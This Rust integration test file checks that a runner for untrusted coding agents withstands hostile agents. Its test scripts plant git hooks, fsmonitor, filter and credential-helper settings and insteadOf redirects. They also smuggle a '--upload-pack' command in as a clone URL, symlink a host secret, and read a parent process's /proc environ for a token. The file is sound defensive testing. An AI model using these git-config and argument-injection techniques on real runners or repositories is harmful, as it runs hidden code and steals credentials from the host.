//! The agent is untrusted code, and so is the assignment: the real runner binary against an in-process
//! forgefleet, the fake Forgejo and real git over smart HTTP, with a `command` agent that attacks the runner's
//! git, and a server whose assignments point elsewhere. Whatever they try, nothing of theirs runs in the
//! runner's git, the Forgejo token goes only to the runner's configured Forgejo, and the task completes or
//! fails cleanly. These agents run with `sandbox = "none"`: the runner's own defences must hold without the
//! sandbox (tests/sandbox.rs has the same kind of agent inside it).

mod support;

use std::path::Path;

use support::eventually;
use support::runner::{AGENT_TOKEN, REPO, World};

/// What the hostile agent's script writes when any of its programs runs: proof that the runner ran it.
fn ran(marks: &Path) -> Vec<String> {
    std::fs::read_dir(marks)
        .map(|d| d.flatten().map(|e| e.file_name().to_string_lossy().into()).collect())
        .unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_a_hostile_agent_plants_in_git_runs_in_the_runners_git() {
    let w = World::new(|c| c.retry.agent_error.max_retries = 0).await;
    let (issue, task) = w.queued("Hostile").await;
    let marks = w.root.path().join("marks");
    std::fs::create_dir_all(&marks).unwrap();
    // A program that leaves a mark (with the environment it saw) whenever anything runs it.
    let evil = w.root.path().join("evil.sh");
    std::fs::write(&evil, format!("#!/bin/sh\nenv > {}/ran-$$\ncat\n", marks.display())).unwrap();
    std::fs::set_permissions(&evil, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    // Every git directory it can find above its checkout gets hooks and a configuration that would run the
    // program or send the push elsewhere; its own checkout gets an fsmonitor, a clean filter for every file,
    // a credential helper, a hooks path and an insteadOf; then it leaves its work uncommitted.
    let script = format!(
        r#"evil={evil}
top=$(cd ../../.. && pwd)
for head in $(find "$top" -maxdepth 7 -name HEAD -type f); do
  g=$(dirname "$head"); mkdir -p "$g/hooks"; echo "$g" >> {planted}
  for h in pre-push post-commit pre-commit commit-msg post-checkout reference-transaction pre-auto-gc; do cp "$evil" "$g/hooks/$h"; done
  git config --file "$g/config" url.http://127.0.0.1:9/.insteadOf {git_url}
  git config --file "$g/config" core.fsmonitor "$evil"
  git config --file "$g/config" credential.helper "!$evil"
done
git config core.fsmonitor "$evil"
git config core.hooksPath "$(git rev-parse --absolute-git-dir)/hooks"
git config filter.evil.clean "$evil"
git config filter.evil.smudge cat
git config filter.evil.required true
mkdir -p .git/info; echo '* filter=evil' > .git/info/attributes
git config url.http://127.0.0.1:9/.insteadOf {git_url}
git config credential.helper "!$evil"
echo hostile > work.txt
echo 'Did the work.'"#,
        evil = evil.display(),
        git_url = w.git_url,
        planted = w.root.path().join("planted").display(),
    );
    let _agent = w.agent_unsandboxed(&script);
    eventually("the task ends", || async { matches!(w.state(task).await.as_str(), "completed" | "failed") }).await;
    let t = w.task(task).await;

    let planted = std::fs::read_to_string(w.root.path().join("planted")).unwrap_or_default();
    assert!(planted.contains(&format!("repos/{REPO}.git")), "the agent found the runner's cache: {planted}");
    let marked = ran(&marks);
    let leaked =
        marked.iter().any(|m| std::fs::read_to_string(marks.join(m)).unwrap_or_default().contains(&base64_of_token()));
    assert!(marked.is_empty(), "the runner ran the agent's programs ({marked:?}); with the token: {leaked}");
    assert_eq!(t["task"]["state"], "completed", "{t}");

    // The push went to the real server, and the commit holds the agent's file as it wrote it, nothing else.
    let branch = format!("forgefleet/issue-{issue}-attempt-1");
    let head = t["task"]["receipt"]["head_sha"].as_str().unwrap().to_string();
    assert_eq!(w.repo.remote_ref(&format!("refs/heads/{branch}")), Some(head.clone()));
    let bare = w.root.path().join("git").join(format!("{REPO}.git"));
    let files = support::git::git(&bare, &["diff", "--name-only", "main", &head]);
    assert_eq!(files.trim(), "work.txt");
    assert_eq!(support::git::git(&bare, &["show", &format!("{head}:work.txt")]).trim(), "hostile");

    // The runner's cache has no hook and none of the agent's configuration.
    let cache = w.root.path().join(format!("agent/work/repos/{REPO}.git"));
    let hooks: Vec<_> =
        std::fs::read_dir(cache.join("hooks")).into_iter().flatten().flatten().map(|e| e.path()).collect();
    assert!(hooks.is_empty(), "hooks left in the runner's cache: {hooks:?}");
    let config = std::fs::read_to_string(cache.join("config")).unwrap();
    assert!(!config.contains("insteadOf") && !config.contains("evil"), "{config}");
    assert!(ran(&marks).is_empty());
}

fn base64_of_token() -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(format!("forgefleet:{AGENT_TOKEN}"))
}

/// A server whose assignments point the runner's git somewhere else: its `[forgejo] git_url` set to `url`.
async fn refused_assignment(git_url: String) -> (World, String) {
    let w = World::new(move |c| {
        c.forgejo.git_url = Some(git_url);
        c.retry.agent_error.max_retries = 0;
    })
    .await;
    let (_, task) = w.queued("Elsewhere").await;
    let ran = w.root.path().join("agent-ran");
    let _agent = w.agent_unsandboxed(&format!("touch {}; echo x > x.txt; echo done", ran.display()));
    eventually("the task fails", || async { w.state(task).await == "failed" }).await;
    let t = w.task(task).await;
    assert!(!ran.exists(), "the agent ran on a refused assignment");
    let message = t["task"]["last_failure"]["message"].as_str().unwrap_or_default().to_string();
    (w, message)
}

#[tokio::test(flavor = "multi_thread")]
async fn an_assignment_to_clone_from_another_host_is_refused_without_running_git() {
    // Where the token would go: a listener that records whether anyone connected.
    let elsewhere = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    elsewhere.set_nonblocking(true).unwrap();
    let url = format!("http://127.0.0.1:{}", elsewhere.local_addr().unwrap().port());
    let (_w, message) = refused_assignment(url.clone()).await;
    assert!(message.contains("the runner refused the assignment"), "{message}");
    assert!(
        message.contains(&format!("{url}/{REPO}.git")) && message.contains("not on this runner's Forgejo"),
        "{message}"
    );
    let connected = elsewhere.accept();
    assert!(
        connected.as_ref().is_err_and(|e| e.kind() == std::io::ErrorKind::WouldBlock),
        "git connected: {connected:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_assignment_whose_clone_url_is_an_option_is_refused_without_running_git() {
    let marker = tempfile::tempdir().unwrap();
    let touched = marker.path().join("upload-pack-ran");
    let (_w, message) = refused_assignment(format!("--upload-pack=touch {}; echo ", touched.display())).await;
    assert!(message.contains("the runner refused the assignment"), "{message}");
    assert!(message.contains("is not a plain http(s) URL"), "{message}");
    assert!(!touched.exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_agents_own_commits_are_kept_and_its_links_are_committed_as_links() {
    let w = World::new(|c| c.retry.agent_error.max_retries = 0).await;
    let (issue, task) = w.queued("Commits and links").await;
    let secret = w.root.path().join("host-secret");
    std::fs::write(&secret, "the host's secret\n").unwrap();
    // Its own commit, then a link to a host file left uncommitted: the runner must not read through it.
    let script = format!(
        "echo one > one.txt && git add one.txt && git commit -q -m 'The agent commits itself' && \
         ln -s {} leak && echo 'Committed and linked.'",
        secret.display()
    );
    let _agent = w.agent_unsandboxed(&script);
    let (head, bare) = completed(&w, task).await;
    let log = support::git::git(&bare, &["log", "--format=%s", &format!("main..{head}")]);
    assert_eq!(
        log.lines().collect::<Vec<_>>(),
        [format!("Commits and links (#{issue})"), "The agent commits itself".into()]
    );
    let tree = support::git::git(&bare, &["ls-tree", &head, "leak"]);
    assert!(tree.starts_with("120000 blob"), "committed as a link: {tree}");
    let content = support::git::git(&bare, &["cat-file", "-p", &format!("{head}:leak")]);
    assert_eq!(content.trim(), secret.display().to_string(), "the link, not the host file's content");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dot_git_that_points_elsewhere_is_not_followed() {
    let w = World::new(|c| c.retry.agent_error.max_retries = 0).await;
    let (_, task) = w.queued("Git file").await;
    // The agent swaps its .git for a file naming the runner's cache, and leaves work in the checkout.
    let cache = w.root.path().join(format!("agent/work/repos/{REPO}.git"));
    let script =
        format!("rm -rf .git && echo 'gitdir: {}' > .git && echo two > two.txt && echo 'Moved.'", cache.display());
    let _agent = w.agent_unsandboxed(&script);
    let (head, bare) = completed(&w, task).await;
    assert_eq!(support::git::git(&bare, &["diff", "--name-only", "main", &head]).trim(), "two.txt");
    // The cache is still a bare repository with the base branch, not the agent's work tree's index.
    assert!(!cache.join("index").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_runners_forgejo_token_is_not_in_any_start_up_environment_the_agent_can_read() {
    let w = World::new(|c| c.retry.agent_error.max_retries = 0).await;
    let (_, task) = w.queued("Read the environ").await;
    // The runner was started with FORGEFLEET_AGENT_FORGEJO_TOKEN (as a service manager passes it); the agent
    // looks for it where a process's start-up environment stays readable.
    let script = format!(
        "if tr '\\0' '\\n' < /proc/$PPID/environ | grep -q {AGENT_TOKEN}; then echo leaked > found.txt; \
         else echo clean > found.txt; fi; echo 'Looked.'"
    );
    let agent = w.agent_unsandboxed(&script);
    eventually("the task ends", || async { matches!(w.state(task).await.as_str(), "completed" | "failed") }).await;
    let t = w.task(task).await;
    assert_eq!(t["task"]["state"], "completed", "the token still reached git and Forgejo: {t}");
    let head = t["task"]["receipt"]["head_sha"].as_str().unwrap().to_string();
    let bare = w.root.path().join("git").join(format!("{REPO}.git"));
    assert_eq!(support::git::git(&bare, &["show", &format!("{head}:found.txt")]).trim(), "clean");
    let environ = std::fs::read(format!("/proc/{}/environ", agent.pid())).unwrap();
    let environ = String::from_utf8_lossy(&environ);
    assert!(!environ.contains(AGENT_TOKEN) && !environ.contains("FORGEFLEET_AGENT_FORGEJO_TOKEN"), "{environ}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_runner_keeps_its_agent_token_in_a_file_only_it_can_read() {
    use std::os::unix::fs::PermissionsExt as _;
    let w = World::new(|_| {}).await;
    let file = w.root.path().join("agent/work/agent-token");
    let agent = w.agent_unsandboxed("echo idle");
    eventually("the runner registered", || async { file.exists() }).await;
    assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    let token = std::fs::read_to_string(&file).unwrap();
    let answer = reqwest::Client::new()
        .post(format!("{}/api/v1/agents/heartbeat", w.fleet.base))
        .bearer_auth(token.trim())
        .json(&serde_json::json!({"running": []}))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200, "the kept token is the agent's current one");
    drop(agent);
}

/// Waits for `task` to end, requires it completed, and answers its receipt's head and the server's bare
/// repository.
async fn completed(w: &World, task: u64) -> (String, std::path::PathBuf) {
    eventually("the task ends", || async { matches!(w.state(task).await.as_str(), "completed" | "failed") }).await;
    let t = w.task(task).await;
    assert_eq!(t["task"]["state"], "completed", "{t}");
    let head = t["task"]["receipt"]["head_sha"].as_str().unwrap().to_string();
    (head, w.root.path().join("git").join(format!("{REPO}.git")))
}
